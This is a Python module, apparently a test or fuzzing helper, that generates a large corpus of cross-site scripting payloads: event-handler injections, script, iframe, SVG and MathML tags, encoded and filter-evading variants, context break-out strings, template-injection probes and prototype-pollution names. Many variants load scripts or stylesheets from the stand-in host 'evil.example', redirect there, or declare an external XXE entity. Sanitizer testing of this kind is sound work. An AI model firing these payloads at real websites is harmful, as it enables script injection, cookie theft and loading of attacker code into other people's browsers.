"""Markup and addresses that run something in a page that takes texts for more than texts."""

import base64
from collections.abc import Iterator
from html import entities

RUN = ("window.hacked=1", "alert(1)", "console.log('hacked')", "location='https://evil.example/'")
EVIL = "https://evil.example"


def payloads() -> tuple[str, ...]:
    """Every one of them, each once."""
    return tuple(
        dict.fromkeys((*_handlers(), *_tags(), *_written_otherwise(), *_broken_out(), *ODD))
    )


def _handlers() -> Iterator[str]:
    """Elements that run a handler by themselves or when touched."""
    for at, (tag, on) in enumerate((tag, on) for tag, events in EVENTS.items() for on in events):
        run = RUN[at % len(RUN)]
        yield f"<{tag} {on}={run}>"
        yield f'<{tag} {on}="{run}"></{tag.split()[0]}>'


def _tags() -> Iterator[str]:
    """Elements that run or load what their address or content says."""
    for run in RUN:
        data = base64.b64encode(f"<script>{run}</script>".encode()).decode()
        for form in TAGS:
            yield form.format(run=run, evil=EVIL, data=f"data:text/html;base64,{data}")


def _written_otherwise() -> Iterator[str]:
    """The same, for filters that look for the plain form."""
    for run in RUN:
        plain = f"<img src=x onerror={run}>"
        yield plain.upper().replace(run.upper(), run)
        yield plain.replace("<", "&lt;").replace(">", "&gt;")
        yield "".join(f"&#{ord(letter)};" for letter in plain)
        yield "".join(f"&#x{ord(letter):x};" for letter in plain)
        yield "".join(f"%{ord(letter):02X}" for letter in plain)
        yield "".join(f"\\u{ord(letter):04x}" for letter in plain)
        yield "".join(f"\\x{ord(letter):02x}" for letter in plain)
        yield "".join(chr(ord(letter) + 0xFEE0) for letter in plain if "!" <= letter <= "~")
        yield plain.replace("<img ", "<img/").replace(" onerror", "/onerror")
        yield plain.replace(" ", "\x0c").replace("onerror", "on\x00error")
        yield plain.replace("src=x", "src=`x`").replace(run, f"`{run}`")
        yield plain.replace("<", "\u2039").replace(">", "\u203a")
        yield plain.replace("<img", "<<img").replace(">", ">>")
        yield plain.replace("<", "+ADw-").replace(">", "+AD4-")
        yield plain[:-1]
        for space in ("\t", "\n", "\r", "&Tab;", "&NewLine;", "\x01", "\u00a0", "\u200b"):
            yield f"java{space}script:{run}"
            yield f"{space}javascript:{run}"
        for scheme in (
            "javascript",
            "JaVaScRiPt",
            "vbscript",
            "livescript",
            "data:text/html,<script>",
        ):
            yield f"{scheme}:{run}"
            yield f"{scheme}://%0a{run}//https://image.tmdb.org/"
        yield "".join(f"&{_NAMED.get(ord(letter), letter)}" for letter in "<>\"'&") + run


def _broken_out() -> Iterator[str]:
    """Ends of what a text may stand in, then something that runs."""
    for end in ENDS:
        for run in RUN:
            yield f"{end}<script>{run}</script>"
            yield f"{end} onmouseover={run} autofocus onfocus={run} x="


_NAMED = {code: f"{name};" for name, code in entities.name2codepoint.items()}
EVENTS = {
    "img src=x": ("onerror", "ONERROR", "oNeRrOr ", "onload", "onloadstart"),
    "svg": ("onload", "onbegin", "onfocus", "onclick"),
    "svg><animate attributeName=x dur=1s": ("onbegin", "onend", "onrepeat"),
    "svg><set attributeName=x dur=1s": ("onbegin", "onend"),
    "body": ("onload", "onpageshow", "onresize", "onscroll", "onhashchange", "onmessage", "onunload"),
    "input autofocus": ("onfocus", "onfocusin", "onblur", "onselect", "oninput", "oninvalid"),
    "select autofocus": ("onfocus", "onchange"),
    "textarea autofocus": ("onfocus", "onkeydown", "onpaste"),
    "video><source src=x": ("onerror",),
    "video src=x": ("onerror", "onloadstart", "oncanplay"),
    "audio src=x": ("onerror", "onloadstart", "onplay"),
    "details open": ("ontoggle",),
    "dialog open": ("onclose", "oncancel"),
    "marquee": ("onstart", "onfinish", "onbounce"),
    "div style=animation:x 1s": ("onanimationstart", "onanimationend", "onwebkitanimationstart"),
    "div style=transition:all 1s": ("ontransitionend", "ontransitionrun"),
    "div contenteditable tabindex=1": (
        "onfocus", "onclick", "onmouseenter", "onmouseover", "onmousemove", "onpointerenter",
        "onpointerover", "onpointerrawupdate", "onwheel", "oncopy", "oncut", "onpaste", "ondrag",
        "ondrop", "oncontextmenu", "onbeforeinput", "onscrollend", "onbeforetoggle",
    ),
    "iframe src=about:blank": ("onload",),
    "object data=x": ("onerror", "onload"),
    "embed src=/": ("onload",),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "style": ("onload",),
    "script src=x": ("onerror",),
    "track default src=x": ("onerror",),
    "a href=# id=x tabindex=1": ("onfocus", "onclick"),
    "button popovertarget=x": ("onclick",),
    "meter": ("onclick",),
    "custom-element tabindex=1": ("onfocus",),
}  # fmt: skip
TAGS = (
    "<script>{run}</script>", "<SCRIPT\n>{run}</SCRIPT\n>", "<script/x>{run}</script>",
    "<script src={evil}/x.js></script>", "<script src=//evil.example/x.js></script>",
    "<script type=module>import '{evil}/x.js'</script>", "<script>import('{evil}/x.js')</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe src={evil}></iframe>",
    "<iframe src={data}></iframe>", "<object data=javascript:{run}></object>",
    "<object data={data}></object>", "<embed src=javascript:{run}>", "<embed src={data}>",
    "<a href=javascript:{run}>x</a>", "<a href={data}>x</a>", "<a href={evil} ping={evil}>x</a>",
    "<form action=javascript:{run}><input type=submit autofocus></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<isindex action=javascript:{run} type=submit>", "<base href={evil}/>", "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url={evil}'>", "<meta charset=utf-7>",
    "<link rel=stylesheet href={evil}/x.css>", "<link rel=preload as=image href={evil}/x>",
    "<link rel=dns-prefetch href={evil}>", "<link rel=prefetch href={evil}/x>",
    "<style>@import '{evil}/x.css';</style>", "<style>*{{background:url({evil}/x)}}</style>",
    "<div style='background:url({evil}/x)'>", "<div style='width:expression({run})'>",
    "<img src={evil}/x.png>", "<img srcset='{evil}/x.png 2x'>", "<picture><source srcset={evil}/x>",
    "<input type=image src={evil}/x>", "<body background={evil}/x>", "<table background={evil}/x>",
    "<video poster={evil}/x></video>", "<audio src={evil}/x autoplay></audio>",
    "<svg><image href={evil}/x /></svg>", "<svg><use href='{data}#x'/></svg>",
    "<svg><script>{run}</script></svg>", "<svg><script href={evil}/x.js /></svg>",
    "<svg><a href=javascript:{run}><text y=20>x</text></a></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:{run} /><a id=x><text>x</text></a>",
    "<svg><foreignObject><iframe src=javascript:{run}></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><img src=x onerror={run}></template>", "<xmp><img src=x onerror={run}></xmp>",
    "<plaintext><img src=x onerror={run}>", "<title><img src=x onerror={run}></title>",
    "<textarea><img src=x onerror={run}></textarea>", "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>", "<?xml version='1.0'?><x onerror={run}/>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '{evil}/x'>]><x>&y;</x>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "<portal src={evil}>", "<fencedframe src={evil}>", "<applet code={evil}>", "<frameset onload={run}>",
    "<form id=x></form><img name=getElementById>", "<a id=textContent></a><a id=append>",
    "[x](javascript:{run})", "![x]({evil}/x.png)", "<{evil}>", "[x]: javascript:{run}",
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "#{{{run}}}", "<%={run}%>", "{{{{7*7}}}}",
    "@import url({evil}/x.css);", "url({evil}/x)", "expression({run})", "//evil.example/x",
    "{evil}/x.png", "{data}", "blob:{evil}/x", "filesystem:{evil}/x", "wss://evil.example/x",
)  # fmt: skip
ENDS = (
    '"', "'", "`", '">', "'>", "`>", '"/>', "-->", "--!>", "]]>", "*/", "</script>", "</style>",
    "</title>", "</textarea>", "</template>", "</noscript>", "</select>", "</svg>", "</li>", "</span>",
    "\\", "\\\"", "\\'", "\"}]", "\"}]</script>", "');", '");', "\u2028", "\n", "\x00", "}", "${", "{{",
)  # fmt: skip
# Names of things that pages use, and numbers and texts where others are awaited.
ODD = (
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "then", "innerHTML",
    "document.cookie", "undefined", "null", "NaN", "Infinity", "-1", "1e309", "0x7f", "true", "{}",
    "[]", "../../overlay", "..%2f..%2foverlay", "/overlay/ws", "hello", "onyu", "<b>굵게</b>",
    "&nbsp;&lt;b&gt;", "<", ">", "&", '"', "'", "`", "\\", "/*", "<!--", "-->", "]]>", "\u202e<b>",
)  # fmt: skip
